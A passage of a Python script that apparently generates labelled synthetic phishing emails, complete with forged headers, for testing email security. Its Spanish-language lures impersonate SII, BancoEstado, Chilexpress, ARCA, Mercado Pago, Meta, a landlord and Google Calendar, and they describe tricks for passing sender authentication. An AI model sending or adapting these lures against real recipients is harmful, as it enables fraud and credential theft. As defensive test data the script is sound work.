Valor canon diciembre: $6.850.000 + cuota de administración $1.120.000.

Por favor nos envías el soporte de la consignación a este mismo correo. Cualquier inquietud quedo atenta.

Cordialmente,
Paola Andrea Ruiz
Cartera y Cobranza
Inmobiliaria Santa Bárbara
PBX 601 616 4470"""
    quoted = """El mar, 5 nov 2024 a las 11:02, Tesorería Rincón & Vélez (<tesoreria@rinconvelez.com.co>) escribió:
> Buenos días Paola, adjunto el soporte de pago del canon de noviembre de la oficina 502.
> Quedamos atentos a la factura.
> Natalia Castaño - Tesorería"""
    plain = reply + "\n\n" + quoted + "\n"
    html = (f'<div dir="ltr">{reply.replace(chr(10), "<br>")}</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            f'El mar, 5 nov 2024 a las 11:02, Tesorería Rincón &amp; Vélez (&lt;<a href="mailto:tesoreria@rinconvelez.com.co">tesoreria@rinconvelez.com.co</a>&gt;) escribió:<br></div>'
            f'<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
            f'Buenos días Paola, adjunto el soporte de pago del canon de noviembre de la oficina 502.<br>Quedamos atentos a la factura.<br>Natalia Castaño - Tesorería</blockquote></div>\n')
    body = alt(slug, plain, html, "gmail")
    add("phishing", "phish", slug,
        "BEC from the office landlord's compromised Google Workspace mailbox (SPF/DKIM/DMARC pass) in the real rent thread, moving the December rent to a new savings account; no link, no attachment.",
        hdr(top, hops, orig, tail), body)


def co_oferta_laboral_outlook() -> None:
    slug = "co-oferta-laboral-auxiliar-contable"
    t = T(2025, 1, 21, 18, 33, 2, -5)
    rcpt = "luisa.gomez@rinconvelez.com.co"
    src = "CH3PR19MB7791.namprd19.prod.outlook.com"
    score, tests = sa("bayes50", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef",
                      "freemail", "html", "dmarc_pass", "dnswl_none", "msps", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="40.92.21.74", host="mail-dm6nam10olkn2074.outbound.protection.outlook.com",
                          mailfrom="seleccion.talento.exito@outlook.com", spf="pass", dkim="pass", dkim_d="outlook.com",
                          dmarc="pass", from_dom="outlook.com", score=score, tests=tests,
                          tls="esmtps  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384")
    hops = [f"Received: from {src} ([fe80::{hx(slug + 'f', 4)}:{hx(slug + 'g', 4)}:{hx(slug + 'h', 4)}:{hx(slug + 'i', 4)}]) by\n"
            f" {src} ([fe80::{hx(slug + 'f', 4)}:{hx(slug + 'g', 4)}:{hx(slug + 'h', 4)}:{hx(slug + 'i', 4)}%4]) with mapi id\n {exch_ver(t)}; {rfc(utc(t))}"]
    orig = [dkim_sig("outlook.com", "selector1", slug, t,
                     "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"),
            f"From: {addr('Gestión Humana - Grupo Éxito', 'seleccion.talento.exito@outlook.com', 'iso-8859-1', 'Q')}",
            f"To: {addr('', rcpt)}",
            f"Subject: {ew('Oferta laboral: Auxiliar Contable (100% remoto) - Proceso de selección 2025', 'iso-8859-1')}",
            "Thread-Topic: Oferta laboral: Auxiliar Contable (100% remoto)",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: es-CO, en-US",
            "Content-Language: es-CO",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            f"x-ms-exchange-messagesentrepresentingtype: 1",
            "MIME-Version: 1.0"]
    plain = """Cordial saludo Luisa Fernanda,

Hemos revisado su hoja de vida publicada en la plataforma de empleo y su perfil fue preseleccionado para la vacante:

Cargo: Auxiliar Contable - Trabajo 100% remoto
Salario: $3.800.000 + prestaciones de ley
Horario: lunes a viernes, 8:00 a.m. a 4:00 p.m.
Contrato: término indefinido

Para continuar con el proceso debe comunicarse con la analista de selección por WhatsApp al +57 321 448 0917 o en el siguiente enlace: https://wa.me/573214480917

Recuerde tener a la mano copia de la cédula y certificado bancario para la vinculación. Los exámenes médicos ocupacionales se realizan con nuestro laboratorio aliado y tienen un costo de $85.000 que se reembolsa en el primer pago de nómina.

Los cupos son limitados.

Atentamente,
Gestión Humana
Grupo Éxito
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body dir="ltr">'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">'
            + plain.replace("https://wa.me/573214480917", '<a href="https://wa.me/573214480917">https://wa.me/573214480917</a>').replace("\n", "<br>\n")
            + "</div></body></html>\n")
    body = alt(slug, plain, html, "outlook", charset="iso-8859-1")
    add("phishing", "phish", slug,
        "Fake Grupo Éxito remote job offer from a free Outlook.com account: moves the victim to WhatsApp and asks for ID, bank certificate and an $85,000 'medical exam' fee.",
        hdr(top, hops, orig, tail), body)


# =========================================================================
#  CHILE (and the Mendoza store): Tiendas Lircay, Google Workspace — attacks
# =========================================================================

LC = "lircay.cl"


def cl_sii_f29_diferencias() -> None:
    slug = "cl-sii-diferencias-f29-clave"
    t = T(2024, 9, 19, 10, 27, 4, -3)
    rcpt = "fmunoz@lircay.cl"
    dom = "sii-cl.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="185.225.69.143", host="correo.sii-cl.com", mailfrom=f"notificaciones@{dom}",
                 spf="pass", dkims=[], dmarc=None)
    hops = [f"Received: from localhost (localhost [127.0.0.1])\n\tby correo.sii-cl.com (Postfix) with ESMTP id 4X8n2c1ZQkz1xqs\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=2))}"]
    orig = [f"Date: {rfc(t)}",
            f"From: {addr('Servicio de Impuestos Internos', f'notificaciones@{dom}', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('SII - Notificación: diferencias detectadas en Formulario 29 período 2024-08')}",
            f"Message-ID: <{hx(slug, 16)}@{dom}>",
            "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook Express 6.00.2900.5512"]
    link = "https://sii-cl.com/cgi_AUT2000/CAutInicio.cgi?https://misiir.sii.cl/cgi_misii/siihome.cgi&rut=76482915"
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#333">
<table width="620" cellspacing="0" cellpadding="0" style="border:1px solid #ccc">
<tr><td style="background:#16507f;padding:12px 18px;color:#fff"><b style="font-size:18px">SII</b> &nbsp; Servicio de Impuestos Internos</td></tr>
<tr><td style="padding:20px">
<p>Señor(a) Contribuyente<br><b>TIENDAS LIRCAY S.A.</b><br>RUT: 76.482.915-K</p>
<p>Junto con saludarle, informamos que en el proceso de fiscalización masiva se detectaron <b>diferencias entre el Formulario 29 (IVA)</b> del período tributario <b>agosto 2024</b> y la información de Documentos Tributarios Electrónicos registrada en el Registro de Compras y Ventas.</p>
<p>Monto observado: <b>$ 4.812.330</b></p>
<p>Para revisar el detalle y presentar la rectificatoria o los antecedentes que correspondan, ingrese a Mi SII con su RUT y Clave Tributaria dentro de un plazo de 5 días hábiles:</p>
<p><a href="{link}">Ingresar a Mi SII</a></p>
<p>Vencido el plazo, se procederá a la citación conforme al artículo 63 del Código Tributario.</p>
<p>Atentamente,<br>Subdirección de Fiscalización<br>Servicio de Impuestos Internos</p>
</td></tr></table></body></html>
"""
    body = Multi("alternative", boundary(slug, "other"), [
        text("Diferencias en F29 agosto 2024. Ingrese a Mi SII: " + link + "\n", "plain", "quoted-printable", "iso-8859-1"),
        text(html, "html", "quoted-printable", "iso-8859-1")])
    add("phishing", "phish", slug,
        "SII 'diferencias en el F29' lure from a look-alike domain that copies the real CAutInicio.cgi login URL path to harvest RUT and Clave Tributaria.",
        hdr(top, hops, orig), body)


def cl_bancoestado_clave_bloqueada() -> None:
    slug = "cl-bancoestado-clave-bloqueada-ferreteria"
    t = T(2023, 6, 28, 21, 14, 39, -4)
    rcpt = "rsepulveda@lircay.cl"
    dom = "ferreteriaelroble.cl"
    srv = "cl-srv12.hostingplus.cl"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="190.107.177.42", host=srv, mailfrom=f"ventas@{dom}", spf="pass",
                 dkims=[("pass", f"@{dom}", "default")], dmarc=None)
    hops = cpanel_sender_hop(slug, t - timedelta(seconds=2), srv, f"ventas@{dom}")
    orig = [dkim_sig(dom, "default", slug, t, "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc"),
            f"From: {addr('BancoEstado', f'ventas@{dom}', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Su Clave Internet ha sido bloqueada preventivamente')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 32)}@{dom}>",
            "MIME-Version: 1.0"]
    orig += antiabuse(srv, LC, dom, f"ventas@{dom}")
    link = "https://bancoestado.cl.personas-seguridad.info/imagenes/_personas/login/?rut=&ref=" + hx(slug + "r", 8)
    html = f"""<html><body style="font-family:Arial;font-size:14px">
<div style="background:#f58220;padding:10px 16px;color:#fff;font-size:20px"><b>BancoEstado</b></div>
<p>Estimado(a) cliente:</p>
<p>Por su seguridad hemos <b>bloqueado preventivamente su Clave Internet</b> debido a intentos de acceso no reconocidos desde un dispositivo nuevo.</p>
<p>Para desbloquearla y evitar la suspensión de su CuentaRUT y BancoEstado Empresas, valide su identidad ingresando al siguiente enlace:</p>
<p><a href="{link}">https://www.bancoestado.cl/desbloqueo</a></p>
<p>Si no realiza la validación en las próximas 12 horas deberá acercarse a una sucursal.</p>
<p>Atte.<br>BancoEstado</p>
</body></html>
"""
    body = text(html, "html", "quoted-printable", "UTF-8")
    add("phishing", "phish", slug,
        "BancoEstado 'Clave Internet bloqueada' from a compromised hardware store's cPanel mailbox; the visible URL text says bancoestado.cl but the href is a subdomain trick.",
        hdr(top, hops, orig), body)


def cl_chilexpress_aduana() -> None:
    slug = "cl-chilexpress-derechos-aduana"
    t = T(2025, 11, 27, 13, 2, 44, -3)
    rcpt = "creyes@lircay.cl"
    dom = "chilexpress-envios.com"
    ses = f"0100{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="54.240.9.44", host="a9-44.smtp-out.amazonses.com", mailfrom=f"{ses}@amazonses.com",
                 spf="pass", dkims=[("pass", f"@{dom}", hx(slug + 'sel', 32)), ("pass", "@amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")],
                 dmarc=None)
    orig = [dkim_sig(dom, hx(slug + "sel", 32), slug, t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", c="relaxed/simple"),
            dkim_sig("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", slug + "s", t,
                     "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", c="relaxed/simple"),
            f"From: {addr('Chilexpress', f'seguimiento@{dom}', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Tu envío OT 99120847731 requiere pago de derechos de aduana')}",
            f"Message-ID: <{ses}@email.amazonses.com>",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            f"Feedback-ID: ::1.us-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2025.11.27-54.240.9.44"]
    link = "https://chilexpress-envios.com/seguimiento/pago/?ot=99120847731"
    html = f"""<html><body style="margin:0;background:#f4f4f4">
<table width="600" align="center" style="background:#fff;font-family:'Roboto',Arial,sans-serif;color:#333">
<tr><td style="background:#ffda00;padding:16px 26px;font-size:22px;color:#6b2c91;font-weight:bold">Chilexpress</td></tr>
<tr><td style="padding:26px;font-size:15px;line-height:22px">
<p>Hola,</p>
<p>Tu envío internacional con orden de transporte <b>99120847731</b> llegó a Chile y fue retenido por <b>Aduanas</b>.</p>
<p>Para liberarlo debes pagar los derechos de importación y el IVA:</p>
<p style="font-size:24px;color:#6b2c91"><b>$4.990</b></p>
<p>Plazo de pago: <b>48 horas</b>. Pasado ese plazo el envío será devuelto al remitente.</p>
<p style="text-align:center"><a href="{link}" style="background:#6b2c91;color:#fff;padding:12px 36px;text-decoration:none;border-radius:4px">Pagar ahora</a></p>
</td></tr>
<tr><td style="padding:14px 26px;font-size:11px;color:#999">Chilexpress S.A. Este es un correo automático, por favor no responder.</td></tr>
</table></body></html>
"""
    body = alt(slug, f"Tu envío OT 99120847731 fue retenido por Aduanas. Paga $4.990: {link}\n", html, "ses")
    add("phishing", "phish", slug,
        "Chilexpress customs-duty lure ($4.990) sent via Amazon SES from a look-alike domain during Black Friday week.",
        hdr(top, orig), body)


def cl_arca_intimacion_zip() -> None:
    slug = "cl-arca-intimacion-dfe-zip"
    t = T(2025, 2, 18, 9, 55, 12, -3)
    rcpt = "maguirre@lircay.cl"
    dom = "estudiocontablegimenez.com.ar"
    srv = "c2410542.ferozo.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="200.58.111.141", host=srv, mailfrom=f"info@{dom}", spf="pass",
                 dkims=[("pass", f"@{dom}", "dkim")], dmarc=None)
    hops = [f"Received: from [181.46.137.208] (port=51124 helo=[192.168.0.104])\n\tby {srv} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.96.2)\n\t(envelope-from <info@{dom}>)\n\tid 1tkP3M-00G8qf-1D\n\tfor {rcpt};\n\t{rfc(t - timedelta(seconds=2))}"]
    orig = [dkim_sig(dom, "dkim", slug, t, "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc"),
            f"From: {addr('ARCA - Domicilio Fiscal Electrónico', f'info@{dom}', 'UTF-8', 'Q')}",
            f"To: {rcpt}",
            f"Subject: {ew('ARCA: Nueva comunicación en tu Domicilio Fiscal Electrónico - Intimación de pago')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 32)}@{dom}>",
            "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook 16.0"]
    link = "https://arca-comunicaciones.com.ar/dfe/descarga/Intimacion_ARCA_30-71234567-9.zip"
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333">
<div style="border-top:6px solid #0072bb;padding:16px 20px;max-width:600px">
<p style="font-size:20px;color:#0072bb;margin:0"><b>ARCA</b> <span style="font-size:13px;color:#666">Agencia de Recaudación y Control Aduanero</span></p>
<p>Hola, <b>LIRCAY ARGENTINA S.A.</b> (CUIT 30-71234567-9)</p>
<p>Tenés una nueva comunicación en tu <b>Domicilio Fiscal Electrónico</b>:</p>
<table style="font-size:13px;border:1px solid #ddd;border-collapse:collapse">
<tr><td style="padding:6px;border:1px solid #ddd">Asunto</td><td style="padding:6px;border:1px solid #ddd">Intimación de pago - IVA y Ganancias períodos 2024</td></tr>
<tr><td style="padding:6px;border:1px solid #ddd">Sistema</td><td style="padding:6px;border:1px solid #ddd">e-Ventanilla / SICOM</td></tr>
<tr><td style="padding:6px;border:1px solid #ddd">Prioridad</td><td style="padding:6px;border:1px solid #ddd"><b style="color:#c00">ALTA</b></td></tr></table>
<p>Tenés 15 días para regularizar la deuda antes de que se inicie la ejecución fiscal y el embargo de cuentas.</p>
<p>Descargá la intimación desde el siguiente enlace:</p>
<p><a href="{link}">Descargar comunicación (Intimacion_ARCA.pdf)</a></p>
<p style="font-size:11px;color:#888">Recordá que ARCA nunca te va a pedir tu clave fiscal por correo electrónico.</p>
</div></body></html>
"""
    body = alt(slug, f"Tenés una nueva comunicación en tu Domicilio Fiscal Electrónico. Descargala: {link}\n", html, "outlook")
    add("malware", "phish", slug,
        "ARCA (ex-AFIP) 'Domicilio Fiscal Electrónico - intimación de pago' in Argentine voseo for the Mendoza store, from a compromised accounting studio's mailbox, linking to a ZIP download.",
        hdr(top, hops, orig), body)


def cl_mercadopago_ar_inhabilitada() -> None:
    slug = "cl-mercadopago-cuenta-inhabilitada-ar"
    t = T(2024, 7, 9, 18, 40, 26, -3)
    rcpt = "maguirre@lircay.cl"
    dom = "mp-seguridad-cuentas.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="104.168.46.210", host="hwsrv-1197412.hostwindsdns.com",
                 mailfrom=f"soporte@{dom}", spf="pass", dkims=[("pass", f"@{dom}", "x")],
                 dmarc="pass (p=NONE sp=NONE dis=NONE) header.from=" + dom, helo_name="mail.mp-seguridad-cuentas.com")
    orig = [dkim_sig(dom, "x", slug, t, "Subject:Date:To:From:Message-ID:MIME-Version:Content-Type"),
            f"Subject: {ew('Tu cuenta de Mercado Pago fue inhabilitada temporalmente')}",
            f"Date: {rfc(t)}",
            f"To: {rcpt}",
            f"From: {addr('Mercado Pago', f'soporte@{dom}', quote=False)}",
            f"Message-ID: <{hx(slug, 32)}@mail.{dom}>",
            "MIME-Version: 1.0",
            "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"]
    link = f"https://{dom}/ar/validacion/identidad?caso=MP-7742190"
    html = f"""<html><body style="margin:0;background:#eee">
<table width="600" align="center" style="background:#fff;font-family:'Proxima Nova',Arial,sans-serif;color:#333">
<tr><td style="background:#009ee3;padding:18px 24px;color:#fff;font-size:22px;font-weight:bold">mercado pago</td></tr>
<tr><td style="padding:28px;font-size:16px;line-height:24px">
<p>Hola, Martín:</p>
<p>Detectamos movimientos inusuales en tu cuenta y, para protegerte, la <b>inhabilitamos temporalmente</b>. Mientras tanto no vas a poder cobrar, transferir ni usar tu dinero disponible.</p>
<p>Para volver a usarla, validá tu identidad. Te va a llevar menos de 5 minutos.</p>
<p style="text-align:center"><a href="{link}" style="background:#009ee3;color:#fff;padding:12px 32px;border-radius:6px;text-decoration:none">Validar identidad</a></p>
<p style="font-size:13px;color:#777">Si no lo hacés en 24 horas, tu dinero va a quedar retenido hasta que se resuelva el caso MP-7742190.</p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#999">Mercado Pago. Av. Caseros 3039, Piso 2, CP 1264, Parque Patricios, CABA.</td></tr>
</table></body></html>
"""
    body = alt(slug, f"Hola, Martín. Tu cuenta de Mercado Pago fue inhabilitada. Validá tu identidad: {link}\n", html, "phpmailer")
    add("phishing", "phish", slug,
        "Mercado Pago Argentina 'cuenta inhabilitada' lure in voseo to the Mendoza store manager, from a look-alike domain on a Hostwinds VPS (own SPF/DKIM/DMARC pass).",
        hdr(top, orig), body)


def cl_meta_salesforce_relay() -> None:
    slug = "cl-meta-business-salesforce-relay"
    t = T(2023, 7, 25, 15, 18, 0, -4)
    rcpt = "creyes@lircay.cl"
    mf = f"bounce-{hx(slug, 6)}.{num(slug, 1000000, 9999999)}-creyes=lircay.cl@{alnum(slug + 'b', 8).lower()}.bnc.salesforce.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="13.110.78.217", host="smtp07-ia5-sp3.mta.salesforce.com", mailfrom=mf,
                 spf="pass", dkims=[("pass", "@salesforce.com", "sf112022")],
                 dmarc="pass (p=REJECT sp=REJECT dis=NONE) header.from=salesforce.com")
    orig = [dkim_sig("salesforce.com", "sf112022", slug, t, "Date:From:To:Subject:MIME-Version:Content-Type"),
            f"Date: {rfc(utc(t))}",
            f"From: {addr('Meta for Business', 'case.notifications@salesforce.com', quote=False)}",
            f"To: {rcpt}",
            f"Message-ID: <{alnum(slug + 'm', 20)}0000000000000000000000000000000000000000000000000{alnum(slug + 'n', 6)}@sfdc.net>",
            f"Subject: {ew('Aviso final: su página Tiendas Lircay será eliminada - infracción de derechos de autor')}",
            "MIME-Version: 1.0",
            f"X-SFDC-LK: 00D{alnum(slug + 'lk', 15)}",
            f"X-SFDC-User: 005{alnum(slug + 'us', 15)}",
            "X-Sender: postmaster@salesforce.com",
            "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
            "X-SFDC-TLS-NoRelay: 1",
            "X-SFDC-Binding: 1WrIRBV94myi25uB",
            "X-SFDC-EmailCategory: apiSingleMail",
            "X-SFDC-Interface: internal"]
    link = "https://apps.facebook.com/appeal-center-review-2023/?case_id=1180024713"
    html = f"""<html><body style="background:#f0f2f5;margin:0;padding:24px 0">
<table width="580" align="center" style="background:#fff;border-radius:8px;font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#1c2b33">
<tr><td style="padding:24px 32px 8px"><span style="color:#0866ff;font-weight:bold;font-size:22px">Meta</span> <span style="color:#65676b">for Business</span></td></tr>
<tr><td style="padding:8px 32px 24px;line-height:22px">
<p>Hola, <b>Tiendas Lircay</b>:</p>
<p>Recibimos una denuncia de infracción de derechos de autor relacionada con una publicación reciente de tu página. Como la página ya había recibido advertencias, <b>será eliminada de forma permanente en 24 horas</b> y las cuentas publicitarias asociadas quedarán deshabilitadas.</p>
<p>Si crees que se trata de un error, puedes presentar una apelación en el Centro de Apelaciones:</p>
<p style="text-align:center"><a href="{link}" style="background:#0866ff;color:#fff;padding:10px 28px;border-radius:6px;text-decoration:none;font-weight:bold">Solicitar revisión</a></p>
<p style="font-size:13px;color:#65676b">Número de caso: #1180024713</p>
</td></tr>
<tr><td style="padding:14px 32px;font-size:11px;color:#8a8d91;border-top:1px solid #e4e6eb">© Meta · Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></body></html>
"""
    body = alt(slug, f"Tu página Tiendas Lircay será eliminada. Solicita revisión: {link}\n", html, "sfmc")
    add("phishing", "phish", slug,
        "Meta page-takedown lure relayed through Salesforce's mail service (From @salesforce.com, SPF/DKIM/DMARC pass) with a link to an apps.facebook.com canvas page hosting the login kit.",
        hdr(top, orig), body)


def cl_calendar_invite_abuse() -> None:
    slug = "cl-calendar-invite-orden-compra"
    t = T(2024, 11, 12, 16, 3, 21, -3)
    rcpt = "rsepulveda@lircay.cl"
    sender = "compras.proveedores.retail@gmail.com"
    mf = f"3{alnum(slug + 'rp', 20)}@calendar-server.bounces.google.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="209.85.220.73", host="mail-sor-f73.google.com", mailfrom=mf, spf="pass",
                 dkims=[("pass", "@google.com", "20230601"), ("pass", "@gmail.com", "20230601")],
                 dmarc="pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com", smtps=True, google_internal=True)
    uid = f"{hx(slug, 26)}@google.com"
    orig = [dkim_sig("google.com", "20230601", slug, t, "to:from:subject:date:message-id:reply-to:sender:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=LC),
            dkim_sig("gmail.com", "20230601", slug + "g", t, "to:from:subject:date:message-id:reply-to:sender:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=LC),
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'st', 58)}",
            "MIME-Version: 1.0",
            "Sender: Google Calendar <calendar-notification@google.com>",
            f"Reply-To: Compras Proveedores <{sender}>",
            "Auto-Submitted: auto-generated",
            f"Message-ID: <calendar-{guid(slug + 'cal')}@google.com>",
            f"Date: {rfc(utc(t))}",
            f"Subject: {ew('Invitación: Revisión OC-4500218734 - Tiendas Lircay / pago pendiente @ jue 14 nov 2024 11:00 - 11:30 (GMT-3) (rsepulveda@lircay.cl)')}",
            f"From: Compras Proveedores <{sender}>",
            f"To: {rcpt}"]
    doc = "https://orden-compra-4500218734.web.app/documento/?oc=4500218734&p=lircay"
    desc = (f"Estimado proveedor,\\n\\nAdjuntamos la orden de compra OC-4500218734 y el detalle de facturas pendientes de pago. "
            f"Por favor revise y confirme los montos antes de la reunión.\\n\\nVer documento (PDF): {doc}\\n\\nSaludos,\\nDepartamento de Compras")
    ics = f"""BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VTIMEZONE
TZID:America/Santiago
X-LIC-LOCATION:America/Santiago
BEGIN:DAYLIGHT
TZOFFSETFROM:-0400
TZOFFSETTO:-0300
TZNAME:GMT-3
DTSTART:19700906T000000
RRULE:FREQ=YEARLY;BYMONTH=9;BYDAY=1SU
END:DAYLIGHT
BEGIN:STANDARD
TZOFFSETFROM:-0300
TZOFFSETTO:-0400
TZNAME:GMT-4
DTSTART:19700405T000000
RRULE:FREQ=YEARLY;BYMONTH=4;BYDAY=1SU
END:STANDARD
END:VTIMEZONE
BEGIN:VEVENT
DTSTART;TZID=America/Santiago:20241114T110000
DTEND;TZID=America/Santiago:20241114T113000
DTSTAMP:20241112T190321Z
ORGANIZER;CN=Compras Proveedores:mailto:{sender}
UID:{uid}
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=rsepulveda@lircay.cl;X-NUM-GUESTS=0:mailto:rsepulveda@lircay.cl
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE
 ;CN=Compras Proveedores;X-NUM-GUESTS=0:mailto:{sender}
X-MICROSOFT-CDO-OWNERAPPTID:-{num(slug, 100000000, 999999999)}
CREATED:20241112T190318Z
DESCRIPTION:{desc}
LAST-MODIFIED:20241112T190320Z
LOCATION:
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Revisión OC-4500218734 - Tiendas Lircay / pago pendiente
TRANSP:OPAQUE
END:VEVENT
END:VCALENDAR
"""
    ics = ics.replace("\n", "\r\n")
    plain = (f"Compras Proveedores te invitó a un evento\n\nRevisión OC-4500218734 - Tiendas Lircay / pago pendiente\n"
             f"Jueves 14 nov 2024 ⋅ 11:00 – 11:30 (Hora de Chile)\n\nEstimado proveedor,\n\nAdjuntamos la orden de compra OC-4500218734 y el detalle de facturas pendientes de pago. "
             f"Por favor revise y confirme los montos antes de la reunión.\n\nVer documento (PDF): {doc}\n\nSaludos,\nDepartamento de Compras\n\n"
             f"Organizador\nCompras Proveedores\n{sender}\n\nInvitados\nCompras Proveedores - organizador\nrsepulveda@lircay.cl\n\n"
             "Ver todos los detalles del invitado\nhttps://calendar.google.com/calendar/event?action=VIEW&eid=" + b64url(slug + "eid", 60) + "\n\n"
             "Respuesta para rsepulveda@lircay.cl\n¿Asistirás? Sí / No / Quizás\n\nInvitación de Google Calendar: https://calendar.google.com/calendar/\n\n"
             "Recibes este correo electrónico porque asistirás a este evento. Para dejar de recibir novedades del evento, rechaza la invitación.\n")
    eid = b64url(slug + "eid", 60)
    html = f"""<span itemscope itemtype="http://schema.org/InformAction"><span style="display:none" itemprop="about" itemscope itemtype="http://schema.org/Person"><meta itemprop="description" content="Invitación de Compras Proveedores"/></span></span>
<div style="width:100%;font-family:'Google Sans',Roboto,Helvetica,Arial,sans-serif">
<table border="0" cellpadding="0" cellspacing="0" role="presentation" style="max-width:600px;margin:0 auto">
<tr><td style="padding:24px 0 8px;font-size:14px;color:#3c4043">Compras Proveedores te invitó a un evento</td></tr>
<tr><td style="font-size:22px;color:#3c4043;padding-bottom:12px">Revisión OC-4500218734 - Tiendas Lircay / pago pendiente</td></tr>
<tr><td style="font-size:14px;color:#3c4043;padding-bottom:16px">Jueves 14 nov 2024 ⋅ 11:00 – 11:30 (Hora de Chile)</td></tr>
<tr><td style="font-size:14px;color:#3c4043;white-space:pre-wrap">Estimado proveedor,<br><br>Adjuntamos la orden de compra OC-4500218734 y el detalle de facturas pendientes de pago. Por favor revise y confirme los montos antes de la reunión.<br><br>Ver documento (PDF): <a href="https://www.google.com/url?q={doc.replace('&', '%26').replace('?', '%3F').replace('=', '%3D')}&amp;sa=D&amp;source=calendar&amp;usd=2&amp;usg=AOvVaw{alnum(slug + 'usg', 22)}">{doc}</a><br><br>Saludos,<br>Departamento de Compras</td></tr>
<tr><td style="padding:16px 0;font-size:14px;color:#3c4043"><b>Organizador</b><br>Compras Proveedores<br>{sender}</td></tr>
<tr><td style="padding-bottom:16px"><a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=1&amp;tok={b64url(slug + 'tok', 40)}&amp;ctz=America%2FSantiago&amp;hl=es" style="border:1px solid #dadce0;border-radius:16px;padding:6px 16px;color:#3c4043;text-decoration:none">Sí</a>
<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=2&amp;tok={b64url(slug + 'tok', 40)}&amp;ctz=America%2FSantiago&amp;hl=es" style="border:1px solid #dadce0;border-radius:16px;padding:6px 16px;color:#3c4043;text-decoration:none">No</a>
<a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=3&amp;tok={b64url(slug + 'tok', 40)}&amp;ctz=America%2FSantiago&amp;hl=es" style="border:1px solid #dadce0;border-radius:16px;padding:6px 16px;color:#3c4043;text-decoration:none">Quizás</a></td></tr>
<tr><td style="font-size:12px;color:#70757a;border-top:1px solid #dadce0;padding-top:12px">Invitación de <a href="https://calendar.google.com/calendar/" style="color:#1a73e8">Google Calendar</a><br>Recibes este correo electrónico porque asistirás a este evento. Para dejar de recibir novedades del evento, rechaza la invitación.</td></tr>
</table></div>
"""
    cal = Leaf("text/calendar", ics.encode(), "base64", '; charset="UTF-8"; method=REQUEST')
    body = Multi("mixed", gboundary(slug + "mix"), [
        Multi("alternative", gboundary(slug + "alt"), [text(plain, "plain", "quoted-printable", "UTF-8"),
                                                     text(html, "html", "quoted-printable", "UTF-8"), cal]),
        Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'),
    ])
    add("phishing", "phish", slug,
